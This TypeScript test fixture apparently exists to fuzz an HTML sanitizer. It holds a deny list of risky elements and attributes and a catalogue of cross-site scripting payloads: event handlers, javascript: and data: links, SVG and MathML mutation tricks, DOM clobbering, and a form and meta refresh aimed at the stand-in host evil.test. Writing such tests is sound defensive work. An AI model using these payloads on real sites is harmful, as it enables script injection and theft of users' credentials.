/** Texts that would do something in the page, for tests of the shop's cleaner and of the server's. */
import fc from 'fast-check'

/** Elements and attributes with an effect of their own; none may remain. */
export const ACTS =
  'script, style, link, meta, base, iframe, frame, frameset, object, embed, applet, portal, svg, math, template, ' +
  'form, input, button, select, option, textarea, fieldset, label, dialog, audio, video, source, track, map, area, ' +
  'marquee, noscript, canvas, slot, picture, [style], [class], [id], [name], [popover], [tabindex], [autofocus], ' +
  '[contenteditable], [srcdoc], [srcset], [ping], [background], [role], [accesskey], [is], [slot], [part], ' +
  '[formaction], [http-equiv], [download], [usemap], [ismap], [crossorigin], [hidden], [inert]'

export const SAFE_ADDRESS = /^(?:https?:|mailto:|tel:|(?![a-z][a-z\d+.-]*:))/i

export const attacks: Record<string, string> = {
  'a script': '<script>evil()</script>',
  'a script within a word': '<scr<script>ipt>evil()</scr</script>ipt>',
  'an event handler': '<img src=x onerror=evil()><p onclick="evil()" onpointerenter=evil()>x</p>',
  'a handler behind a slash': '<img/src=x/onerror=evil()>',
  'a handler of an animation': '<details open ontoggle=evil()><summary>x</summary></details>',
  'a javascript link': '<a href="javascript:evil()">x</a>',
  'a javascript link with odd letters': '<a href="&#1;JaVa\tScr\nipt&colon;evil()">x</a>',
  'a data link': '<a href="data:text/html,<script>evil()</script>">x</a>',
  'a vbscript and a file link': '<a href="vbscript:evil()">x</a><a href="file:///etc/passwd">x</a>',
  'a link of another program':
    '<a href="ms-word:ofe|u|https://evil.test">x</a><a href="intent://x#Intent;end">x</a>',
  'a link that pings and downloads': '<a href="https://evil.test" ping="/x" download="y">x</a>',
  'a frame': '<iframe srcdoc="<script>evil()</script>"></iframe><object data="x"></object><embed src="x">',
  'a style': '<style>*{display:none}</style><p style="position:fixed;inset:0;z-index:9999">x</p>',
  'styles of the shop': '<div class="dialog backdrop" id="main" slot="x" part="y">x</div>',
  'a form':
    '<form action="https://evil.test"><input name=otp autofocus><button formaction=x>Pay</button></form>',
  'a meta refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test">',
  'an svg':
    '<svg onload=evil()><a xlink:href="javascript:evil()"><text>x</text></a><animate onbegin=evil() /></svg>',
  'an svg that is left again': '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
  'a template':
    '<template><script>evil()</script></template><noscript><p title="</noscript><img src=x onerror=evil()>">',
  'a dialog':
    '<dialog open>Log in</dialog><div popover=manual id=p>x</div><button popovertarget=p>x</button>',
  'what shadows the shop’s own names':
    '<img name=cookie><a id=kiosk href=x></a><form id=location><input name=href></form>',
  'what only some hear':
    '<div role="alert" aria-live="assertive" aria-modal="true" tabindex="1" accesskey="e">x</div>',
  'a moving text and a sound':
    '<marquee onstart=evil()>x</marquee><audio src=x autoplay onplay=evil()></audio>',
  'a picture’s map':
    '<img src=x usemap="#m" ismap><map name=m><area href="javascript:evil()" shape=default></map>',
  'another language’s tag':
    '<x-evil is="y" contenteditable>x</x-evil><a xlink:href="javascript:evil()">x</a>',
}

/** Parts of all of them. */
export const pieces = fc.oneof(
  fc.constantFrom(...Object.values(attacks).flatMap((html) => html.split(/(?=[<> ="'/])/))),
  fc.constantFrom('<', '>', '"', "'", '<!--', '-->', '<![CDATA[', ']]>', '\0', '</p>', '&lt;', '&#x6a;', '`'),
  fc.string({ maxLength: 4 }),
)
